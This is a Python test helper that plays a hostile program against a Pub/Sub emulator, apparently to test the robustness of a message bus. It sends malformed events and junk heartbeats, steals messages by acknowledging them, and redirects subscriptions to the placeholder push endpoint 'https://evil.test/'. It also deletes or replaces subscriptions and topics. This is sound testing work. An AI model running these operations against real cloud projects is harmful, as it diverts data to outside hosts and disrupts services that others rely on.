"""A foreign program that may do anything in a project on Pub/Sub."""

from collections.abc import Callable, Mapping
from contextlib import suppress
from typing import Any

from google.api_core.exceptions import GoogleAPICallError
from google.pubsub_v1 import types

from shared_kernel.buses.binary_mode import headers_of
from shared_kernel.buses.envelope import Envelope
from shared_kernel.buses.pubsub.address import PubSubAddress
from shared_kernel.buses.pubsub.connection import PubSubConnection, ask
from shared_kernel.buses.pubsub.names import Names
from tests.pubsub_server import PROJECT


class OnPubSub:
    """`host` is that of the server; the log of `source` has the identity `log`."""

    def __init__(self, host: str, prefix: str, source: str, log: str) -> None:
        self._names = Names(PROJECT, prefix)
        self._topic = self._names.log(source, log)
        self._key = log
        address = PubSubAddress(project=PROJECT, emulator=host)
        self._connection = PubSubConnection(address, self._topic)
        clients = self._connection.clients()
        self._publisher, self._subscriber = clients.publisher, clients.subscriber

    def send(self, envelope: Envelope) -> None:
        is_beat = envelope.is_heartbeat
        to = self._names.heartbeats if is_beat else self._topic
        self._publish(to, envelope.data, headers_of(envelope))

    def deeds(self) -> Mapping[str, Callable[[], object]]:
        beats = self._names.heartbeats
        junk = {"ce-id": "", "ce-position": "many", "ce-source": "nowhere"}
        return {
            "sends what is no event": lambda: self._publish(self._topic, b"{", {}),
            "sends junk": lambda: self._publish(self._topic, b"\xff", junk),
            "sends a junk heartbeat": lambda: self._publish(beats, b"\xff", junk),
            "steals messages": lambda: self._with_each(self._steal),
            "has messages posted elsewhere": lambda: self._with_each(self._post),
            "delays messages": lambda: self._with_each(self._delay),
            "deletes the subscriptions": lambda: self._with_each(self._delete),
            "replaces the subscriptions": lambda: self._with_each(self._replace),
            "deletes the topic": lambda: self._delete_topic(self._topic),
            "deletes the topic of the heartbeats": lambda: self._delete_topic(beats),
        }

    def close(self) -> None:
        self._connection.close()

    def _publish(self, topic: str, data: bytes, attributes: Mapping[str, str]) -> None:
        written = {
            name: value.encode(errors="replace").decode()[:1000]
            for name, value in attributes.items()
        }
        message = types.PubsubMessage(
            data=data, attributes=written, ordering_key=self._key
        )
        with suppress(GoogleAPICallError):
            ask(self._publisher.publish, {"topic": topic, "messages": [message]})

    def _with_each(self, deed: Callable[[str], Any]) -> None:
        request = {"topic": self._topic}
        with suppress(GoogleAPICallError):
            for each in ask(self._publisher.list_topic_subscriptions, request):
                deed(each)

    def _steal(self, subscription: str) -> None:
        of_it: dict[str, Any] = {"subscription": subscription}
        # It gets none while another holds the ordering key.
        found = ask(self._subscriber.pull, of_it | {"max_messages": 10}, 5)
        if ids := [each.ack_id for each in found.received_messages]:
            ask(self._subscriber.acknowledge, of_it | {"ack_ids": ids})

    def _post(self, subscription: str) -> None:
        config = {"push_endpoint": "https://evil.test/"}
        request = {"subscription": subscription, "push_config": config}
        ask(self._subscriber.modify_push_config, request)

    def _delay(self, subscription: str) -> None:
        changed = types.Subscription(name=subscription, ack_deadline_seconds=600)
        request = {
            "subscription": changed,
            "update_mask": {"paths": ["ack_deadline_seconds"]},
        }
        ask(self._subscriber.update_subscription, request)

    def _delete(self, subscription: str) -> None:
        request = {"subscription": subscription}
        ask(self._subscriber.delete_subscription, request)

    def _replace(self, subscription: str) -> None:
        self._delete(subscription)
        other = self._names.topic("other")
        with suppress(GoogleAPICallError):
            ask(self._publisher.create_topic, {"name": other})
        request = {"name": subscription, "topic": other}
        ask(self._subscriber.create_subscription, request)

    def _delete_topic(self, topic: str) -> None:
        with suppress(GoogleAPICallError):
            ask(self._publisher.delete_topic, {"topic": topic})
